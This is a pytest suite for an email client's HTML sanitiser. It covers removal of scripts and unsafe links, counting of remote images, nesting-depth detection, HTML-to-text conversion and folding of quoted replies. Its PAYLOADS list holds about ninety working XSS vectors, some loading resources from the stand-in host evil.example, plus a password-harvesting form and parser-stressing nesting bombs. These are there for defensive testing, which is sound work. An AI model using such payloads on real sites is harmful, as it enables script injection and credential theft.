"""HTML of strangers: safe to show, and read as a person reads it."""

import re
from html.parser import HTMLParser

import pytest

from channels.email.html import sanitise
from channels.email.html_depth import is_too_deep
from channels.email.html_rules import ATTRIBUTES, TAGS
from channels.email.html_text import html_to_text
from channels.email.mail import read_mail


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "<script/xss src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    "<IMG SRC=javascript:alert('x')>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14; javascript:alert(1);">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    "<img srcset='https://evil.example/x 1x'>",
    "<img src=cid:x onload=alert(1)>",
    "<img dynsrc=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<table background=https://evil.example/x.png><tr><td background=javascript:alert(1)>x</table>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='width:exp/**/ression(alert(1))'>x</div>",
    r"<div style='background:u\72l(https://evil.example/x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='-moz-binding:url(https://evil.example/x.xml#x)'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='list-style-image:url(https://evil.example/x)'>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a href='https://ok.example' target=_self rel=opener>x</a>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<isindex action=javascript:alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p id=__proto__ name=cookie>x</p>",
    "<div contenteditable onblur=alert(1)>x</div>",
    "<p title='&quot; onmouseover=alert(1) x=&quot;'>x</p>",
    "<ol type='1\" onclick=alert(1)'><li>x</ol>",
    "<font color='\"><script>alert(1)</script>'>x</font>",
    "</p><script>alert(1)</script>",
    "<x onclick=alert(1)>x</x>",
    "<p class='evil gmail_quote'>x</p>",
]


class Strict(HTMLParser):
    """Fails on anything a browser could act on."""

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        for name, value in attrs:
            assert not name.startswith("on"), name
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, frozenset()) | {
                "rel",
                "target",
                "data-src",
            }, name
            self.check(tag, name, (value or "").lower())

    def check(self, tag, name, value):
        if name == "href":
            assert re.match(r"(https?|mailto|tel|ftp|sms):", value), value
        if name == "src":
            assert re.match(r"cid:|data:image/(png|gif|jpe?g|webp|bmp);base64,", value), value
        if name == "style":
            assert not re.search(r"url|expression|position|import|binding|behavior|\\", value), (
                value
            )
        if name == "class":
            assert value == "gmail_quote"
        if name == "target":
            assert value == "_blank"

    def handle_comment(self, data):
        raise AssertionError("a comment")

    def handle_decl(self, decl):
        raise AssertionError("a declaration")

    def handle_pi(self, data):
        raise AssertionError("an instruction")


def test_the_list_of_attacks_is_long_enough():
    assert len(PAYLOADS) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_a_browser_could_act_on_survives(payload):
    for html in (
        payload,
        f"<div>before {payload} after</div>",
        f"<table><tr><td>{payload}</table>",
    ):
        safe = sanitise(html, set())
        Strict().feed(safe.html)
        again = sanitise(safe.html, set())
        Strict().feed(again.html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_around_an_attack_is_still_read(payload):
    mail = read_mail(f"Content-Type: text/html\n\n<p>before</p>{payload}".encode())
    assert mail.text.startswith("before")


def test_remote_images_are_inert_and_counted():
    safe = sanitise(
        '<img src="https://t.example/1.gif?a=1&amp;b=2"><img src=//t.example/2><img src=cid:x>'
        '<img src="data:image/png;base64,AAAA"><img src=relative.png>'
        '<p style="background:url(http://t.example/3)">x</p>',
        set(),
    )
    assert safe.remote_images == 3
    assert 'data-src="https://t.example/1.gif?a=1&amp;b=2"' in safe.html
    assert safe.html.count(" src=") == 2
    assert safe.cids == {"x"}


def test_links_open_elsewhere_and_tell_nothing():
    safe = sanitise('<a href="https://ok.example/?a=1&b=2">x</a>', set())
    assert 'target="_blank"' in safe.html
    assert 'rel="noopener noreferrer nofollow"' in safe.html
    assert 'href="https://ok.example/?a=1&amp;b=2"' in safe.html


def test_an_unsafe_link_is_reported():
    warnings = set()
    sanitise("<a href=javascript:x>x</a>", warnings)
    assert warnings == {"html.unsafe_link"}


def test_formatting_a_person_chose_is_kept():
    html = '<p style="color:red;text-align:center"><b>Bold</b> <i>it</i> <u>u</u></p><ul><li>x</li></ul>'
    assert sanitise(html, set()).html == html


# ---------------------------------------------------------------- depth


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 3000,
        "<b>" * 3000,
        "<div></b>" * 3000,
        "<div><table><td></div></table>" * 3000,
        '<div "' * 5000 + ">" + "<div>" * 3000,
        "<div><!--</div>-->" * 3000,
        "<div><script></div></script>" * 3000,
        "<svg><g>" * 3000,
        "<blockquote><p>" * 3000,
        "<ul><li>" * 3000,
        "<table><tr><td>" * 3000,
        "<p>" + "".join(f"<font id={n}>" for n in range(200)) + "<p>x" * 5000,
    ],
)
def test_nesting_that_hurts_a_parser_is_found(html):
    assert is_too_deep(html)


@pytest.mark.parametrize(
    "html",
    [
        "<p>x" * 5000,
        "<ul>" + "<li>x" * 5000 + "</ul>",
        "<table>" + "<tr><td>a<td>b" * 5000 + "</table>",
        "<div>x</div>" * 5000,
        "<br>" * 5000 + "<img src=x>" * 500,
        "<p><b>bold</b> <i>x</i></p>" * 3000,
        "<table><tr><td>" * 50 + "x" + "</td></tr></table>" * 50,
        "<div>" * 200 + "x" + "</div>" * 200,
        "<p><font color=red>x</p>" * 60,
    ],
)
def test_long_but_flat_html_is_not_mistaken_for_it(html):
    assert not is_too_deep(html)


def test_html_too_deep_to_show_is_read_as_text_and_kept_as_a_file():
    raw = b"Content-Type: text/html\n\n<style>p{}</style>" + b"<div>" * 3000 + b"words"
    mail = read_mail(raw)
    assert (mail.text, mail.html) == ("words", None)
    assert {"html.too_deep", "html.as_text"} <= set(mail.warnings)
    assert mail.attachments[0].filename == "message.html"


# ---------------------------------------------------------------- text


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("one<br>two<br><br>three", "one\ntwo\n\nthree"),
        ("<div>one<br></div><div>two</div>", "one\ntwo"),
        ("  one \n  two  ", "one two"),
        ("<b>one</b> <i>two</i>", "one two"),
        ("<b>o</b>ne", "one"),
        ("<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>", "- a\n- b\n  - c"),
        ("<ol><li>a</li><li>b</li></ol>", "1. a\n2. b"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("&lt;b&gt; &amp; &euro; &nbsp;x", "<b> & € x"),
        ("<p>a</p><p>&nbsp;</p><p>b</p>", "a\n\nb"),
        ("<h1>T</h1>text", "T\n\ntext"),
        ("a<style>p{}</style><script>x</script>b", "ab"),
        ('<img src=cid:e alt="😀"> ok', "😀 ok"),
        ('<img src=cid:e alt="Company logo">ok', "ok"),
        ("<a href=https://x.example>x</a>", "x"),
        ("", ""),
    ],
)
def test_html_is_read_with_its_structure(html, text):
    assert html_to_text(sanitise(html, set()).html).text == text


def test_links_are_kept_as_spans():
    (link,) = html_to_text(
        sanitise("<p>see <a href='https://x.example/?a&amp;b'>this page</a>!", set()).html
    ).links
    assert (link.start, link.end, link.arg) == (4, 13, "https://x.example/?a&b")


@pytest.mark.parametrize(
    ("html", "reply"),
    [
        (
            '<div>hi</div><div class="gmail_quote">On x wrote:<blockquote class="gmail_quote">q</blockquote></div>',
            "hi",
        ),
        (
            '<div>hi</div><div>On Fri, Nov 6, 2026 at 10:15, Ann &lt;a@b.example&gt; wrote:</div><blockquote type="cite">q</blockquote>',
            "hi",
        ),
        (
            '<div>hi</div><div class="moz-cite-prefix">Ann wrote:<br></div><blockquote type="cite">q</blockquote>',
            "hi",
        ),
        (
            '<div>hi</div><div id="appendonsend"></div><hr><div id="divRplyFwdMsg">From: x</div><div>q</div>',
            "hi",
        ),
        (
            '<p>hi</p><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0 0 0"><p><b>From:</b> Ann</p></div><p>q</p>',
            "hi",
        ),
        ('<div>hi</div><div class="yahoo_quoted"><div>q</div></div>', "hi"),
        ('<div>hi</div><div class="protonmail_quote">q</div>', "hi"),
        ('<div>hi</div><div class="gmail_signature">Ann</div>', "hi"),
        ('<div class="gmail_quote"><blockquote>q</blockquote></div><div>below</div>', "below"),
    ],
)
def test_quotes_that_mail_programs_mark_are_folded(html, reply):
    mail = read_mail(f"Content-Type: text/html\n\n{html}".encode())
    assert mail.reply_text == reply
    assert "q" in mail.text or "Ann" in mail.text


def test_a_forwarded_mail_of_gmail_is_not_folded():
    html = '<div>see</div><div class="gmail_quote"><div class="gmail_attr">---------- Forwarded message ---------<br>From: x</div>order</div>'
    assert "order" in read_mail(f"Content-Type: text/html\n\n{html}".encode()).reply_text
